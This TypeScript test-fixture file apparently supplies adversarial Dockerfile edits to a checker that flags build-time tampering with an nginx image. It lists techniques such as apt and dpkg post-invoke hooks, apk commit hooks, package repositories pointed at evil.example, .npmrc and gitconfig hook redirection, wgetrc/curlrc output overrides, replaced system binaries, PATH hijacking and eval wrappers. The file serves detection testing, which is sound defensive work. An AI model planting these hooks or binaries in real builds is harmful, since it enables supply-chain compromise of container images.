import type { Files } from "../../app/changes-between.ts";
import type { Change } from "../change.ts";
import { DOCKERFILE, EVIL, edited, IMAGE, plain } from "../repos.ts";

const executable = (text: string) => ({ text, kind: "executable" as const });
const run = (line: string, more: Files = {}): Omit<Change, "name"> => ({
  base: plain,
  head: edited({ ...plain, [`${IMAGE}/html/e.conf`]: EVIL, ...more }, DOCKERFILE, [
    "USER nginx",
    `${line}\nUSER nginx`,
  ]),
});

/** Settings of known programs, and other programs in their place. */
const ways: Readonly<Record<string, Omit<Change, "name">>> = {
  "apt conf COPY": run("COPY 99x /etc/apt/apt.conf.d/99x\nRUN apt-get update", {
    [`${IMAGE}/99x`]:
      'APT::Update::Post-Invoke {"cp /usr/share/nginx/html/e.conf /etc/nginx/nginx.conf";};\n',
  }),
  "apt conf COPY main": run("COPY 99x /etc/apt/apt.conf\nRUN apt-get update", {
    [`${IMAGE}/99x`]:
      'APT::Update::Post-Invoke {"cp /usr/share/nginx/html/e.conf /etc/nginx/nginx.conf";};\n',
  }),
  "apt conf folder": run("COPY apt/ /etc/apt/\nRUN apt-get update", {
    [`${IMAGE}/apt/apt.conf.d/99x`]:
      'DPkg::Post-Invoke {"cp /usr/share/nginx/html/e.conf /etc/nginx/nginx.conf";};\n',
  }),
  "apt conf rootfs": run("COPY rootfs/ /\nRUN apt-get install -y curl", {
    [`${IMAGE}/rootfs/etc/apt/apt.conf.d/99x`]:
      'DPkg::Post-Invoke {"cp /usr/share/nginx/html/e.conf /etc/nginx/nginx.conf";};\n',
  }),
  "apt conf heredoc": run(
    'COPY <<EOF /etc/apt/apt.conf.d/99x\nDPkg::Post-Invoke {"cp /usr/share/nginx/html/e.conf /etc/nginx/nginx.conf";};\nEOF\nRUN apt-get install -y curl',
  ),
  "apt APT_CONFIG": run("ENV APT_CONFIG=/usr/share/nginx/html/c\nRUN apt-get update", {
    [`${IMAGE}/html/c`]:
      'APT::Update::Post-Invoke {"cp /usr/share/nginx/html/e.conf /etc/nginx/nginx.conf";};\n',
  }),
  "dpkg.cfg": run("COPY d /etc/dpkg/dpkg.cfg.d/d\nRUN apt-get install -y curl", {
    [`${IMAGE}/d`]: "post-invoke=cp /usr/share/nginx/html/e.conf /etc/nginx/nginx.conf\n",
  }),
  "apk repos": run("COPY r /etc/apk/repositories\nRUN apk add nginx", {
    [`${IMAGE}/r`]: "https://evil.example/x\n",
  }),
  "apk -X": run("RUN apk add --allow-untrusted -X https://evil.example/x nginx"),
  "apk commit hook": run("COPY --chmod=755 h /etc/apk/commit_hooks.d/h\nRUN apk add curl", {
    [`${IMAGE}/h`]: "#!/bin/sh\ncp /usr/share/nginx/html/e.conf /etc/nginx/nginx.conf\n",
  }),
  "yum conf": run("COPY y.repo /etc/yum.repos.d/y.repo\nRUN yum install -y nginx", {
    [`${IMAGE}/y.repo`]: "[x]\nbaseurl=https://evil.example\n",
  }),
  npmrc: run("COPY .npmrc /root/.npmrc\nRUN npm install -g x", {
    [`${IMAGE}/.npmrc`]: "script-shell=/usr/share/nginx/html/s\n",
  }),
  gitconfig: run("COPY g /root/.gitconfig\nRUN git clone https://a.example/x /opt/x", {
    [`${IMAGE}/g`]: "[core]\n\thooksPath=/usr/share/nginx/html/hooks\n",
  }),
  wgetrc: run("COPY w /etc/wgetrc\nRUN wget https://a.example/x", {
    [`${IMAGE}/w`]: "output_document=/etc/nginx/nginx.conf\n",
  }),
  curlrc: run("COPY c /root/.curlrc\nRUN curl https://a.example/x", {
    [`${IMAGE}/c`]: "output=/etc/nginx/nginx.conf\n",
  }),
  "curl -K": run("RUN curl -K /usr/share/nginx/html/k", {
    [`${IMAGE}/html/k`]: "url=https://a.example\noutput=/etc/nginx/nginx.conf\n",
  }),
  vimrc: run("COPY v /root/.vimrc\nRUN vim -es /tmp/x -c q", { [`${IMAGE}/v`]: ":!cp a b\n" }),
  "binary cp": run("COPY --chmod=755 cp /bin/cp\nRUN cp /a /b", { [`${IMAGE}/cp`]: "\u007fELF\u0000\u0000" }),
  "binary mkdir": run("COPY --chmod=755 mkdir /usr/local/bin/mkdir\nRUN mkdir -p /srv/x", {
    [`${IMAGE}/mkdir`]: "\u007fELF\u0000\u0000",
  }),
  "binary by --from": run("COPY --from=evil/tools /bin/ /usr/local/bin/\nRUN mkdir -p /srv/x"),
  "script in place": run("COPY --chmod=755 m /usr/local/bin/mkdir\nRUN mkdir -p /srv/x", {
    [`${IMAGE}/m`]: "#!/bin/sh\ncp /usr/share/nginx/html/e.conf /etc/nginx/nginx.conf\n",
  }),
  "script in place eval": run("COPY --chmod=755 m /usr/local/bin/mkdir\nRUN mkdir -p /srv/x", {
    [`${IMAGE}/m`]: '#!/bin/sh\neval "$(cat /usr/share/nginx/html/x)"\n',
  }),
  "script in place python": run("COPY --chmod=755 m /usr/local/bin/mkdir\nRUN mkdir -p /srv/x", {
    [`${IMAGE}/m`]: "#!/usr/bin/python3\nimport shutil\n",
  }),
  "script in place exec": run("COPY --chmod=755 m /usr/local/bin/mkdir\nRUN mkdir -p /srv/x", {
    [`${IMAGE}/m`]: '#!/bin/sh\nexec /usr/share/nginx/html/x "$@"\n',
    [`${IMAGE}/html/x`]: executable("#!/bin/sh\ncp /usr/share/nginx/html/e.conf /etc/nginx/nginx.conf\n"),
  }),
  "apt in place": run("COPY --chmod=755 m /usr/local/bin/apt-get\nRUN apt-get update", {
    [`${IMAGE}/m`]: "#!/bin/sh\ncp /usr/share/nginx/html/e.conf /etc/nginx/nginx.conf\n",
  }),
  "apt binary in place": run("COPY --chmod=755 m /usr/local/bin/apt-get\nRUN apt-get update", {
    [`${IMAGE}/m`]: "\u007fELF\u0000\u0000",
  }),
  "ln in place": run("RUN ln -s /usr/share/nginx/html/x /usr/local/bin/mkdir\nRUN mkdir -p /srv/x", {
    [`${IMAGE}/html/x`]: executable("#!/bin/sh\ncp /usr/share/nginx/html/e.conf /etc/nginx/nginx.conf\n"),
  }),
  "ENV PATH then tool": run("ENV PATH=/usr/share/nginx/html/bin:$PATH\nRUN mkdir -p /srv/x", {
    [`${IMAGE}/html/bin/mkdir`]: executable(
      "#!/bin/sh\ncp /usr/share/nginx/html/e.conf /etc/nginx/nginx.conf\n",
    ),
  }),
  "sh in place": run("COPY --chmod=755 m /bin/sh\nRUN true", { [`${IMAGE}/m`]: "\u007fELF\u0000\u0000" }),
  "runApart eval": run("COPY --chmod=755 m /opt/t\nRUN /opt/t x", {
    [`${IMAGE}/m`]: '#!/bin/sh\neval "$(cat /usr/share/nginx/html/x)"\n',
  }),
  "runApart eval args": run(
    "COPY --chmod=755 m /opt/t\nRUN /opt/t cp /usr/share/nginx/html/e.conf /etc/nginx/nginx.conf",
    { [`${IMAGE}/m`]: '#!/bin/sh\neval "$@"\n' },
  ),
  "runApart source": run("COPY --chmod=755 m /opt/t\nRUN /opt/t", {
    [`${IMAGE}/m`]: "#!/bin/sh\n. /usr/share/nginx/html/x\n",
    [`${IMAGE}/html/x`]: "cp /usr/share/nginx/html/e.conf /etc/nginx/nginx.conf\n",
  }),
};

export const settings: readonly Change[] = Object.entries(ways).map(([name, ends]) => ({
  name: `given: ${name}`,
  ...ends,
}));
